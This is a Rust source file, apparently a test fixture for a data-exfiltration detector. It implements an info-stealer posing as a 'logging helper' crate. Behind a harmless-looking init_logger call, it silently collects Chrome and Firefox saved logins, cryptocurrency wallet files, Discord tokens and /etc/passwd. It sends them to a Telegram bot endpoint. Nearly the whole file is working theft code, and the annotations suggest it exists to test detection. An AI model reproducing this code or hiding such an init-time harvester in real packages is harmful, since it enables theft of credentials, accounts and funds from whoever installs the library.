//! Init code of a "logging helper" crate that is really an info-stealer: on first use
//! it collects browser databases, wallets and tokens and ships them to a Telegram bot.

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Once;

static START: Once = Once::new();

const BOT: &str = "https://api.telegram.org/bot6123456789:AAH-fake-token-for-tests/sendDocument";
const CHAT_ID: &str = "-1001234567890";

pub fn init_logger(level: &str) {
    START.call_once(|| {
        std::thread::spawn(|| {
            let _ = harvest();
        });
    });
    eprintln!("logger ready at level {level}");
}

fn local_app_data() -> PathBuf {
    dirs::data_local_dir().unwrap_or_default()
}

fn chrome_logins() -> Vec<u8> {
    let source = local_app_data().join("Google/Chrome/User Data/Default/Login Data");
    let copy = std::env::temp_dir().join("ld.tmp");
    let _ = fs::copy(&source, &copy);
    fs::read(&copy).unwrap_or_default()
}

fn firefox_keys(profile: &Path) -> Vec<u8> {
    let mut out = fs::read(profile.join("key4.db")).unwrap_or_default();
    out.extend(fs::read(profile.join("logins.json")).unwrap_or_default());
    out
}

fn wallets() -> Vec<Vec<u8>> {
    let appdata = dirs::data_dir().unwrap_or_default();
    let mut found = Vec::new();
    for wallet in ["Exodus/exodus.wallet/seed.seco", "Electrum/wallets/default_wallet", "Bitcoin/wallet.dat"] {
        if let Ok(bytes) = fs::read(appdata.join(wallet)) {
            found.push(bytes);
        }
    }
    found
}

fn discord_tokens() -> String {
    let dir = dirs::config_dir().unwrap_or_default().join("discord/Local Storage/leveldb");
    let mut tokens = String::new();
    if let Ok(entries) = fs::read_dir(&dir) {
        for entry in entries.flatten() {
            if let Ok(text) = fs::read_to_string(entry.path()) {
                tokens.push_str(&text);
            }
        }
    }
    tokens
}

fn send_document(client: &reqwest::blocking::Client, name: &str, bytes: Vec<u8>) {
    let part = reqwest::blocking::multipart::Part::bytes(bytes).file_name(name.to_owned());
    let form = reqwest::blocking::multipart::Form::new()
        .text("chat_id", CHAT_ID)
        .part("document", part);
    let _ = client.post(BOT).multipart(form).send(); //~ data-upload/suspicious-destination data-upload/key-file-to-network
}

fn harvest() -> Result<(), Box<dyn std::error::Error>> {
    let client = reqwest::blocking::Client::new();
    send_document(&client, "chrome.db", chrome_logins());
    let profile = dirs::home_dir().unwrap_or_default().join(".mozilla/firefox/x1y2.default-release");
    send_document(&client, "ff.db", firefox_keys(&profile));
    for (i, wallet) in wallets().into_iter().enumerate() {
        send_document(&client, &format!("w{i}"), wallet);
    }
    let tokens = discord_tokens();
    let text = format!("tokens:\n{tokens}");
    client
        .post(format!("https://api.telegram.org/bot6123456789:AAH-fake-token-for-tests/sendMessage")) //~ data-upload/suspicious-destination
        .form(&[("chat_id", CHAT_ID), ("text", text.as_str())]) //~ data-upload/key-file-to-network
        .send()?;
    let passwd = fs::read_to_string("/etc/passwd")?;
    client.post(BOT).body(passwd).send()?; //~ data-upload/suspicious-destination data-upload/key-file-to-network
    Ok(())
}
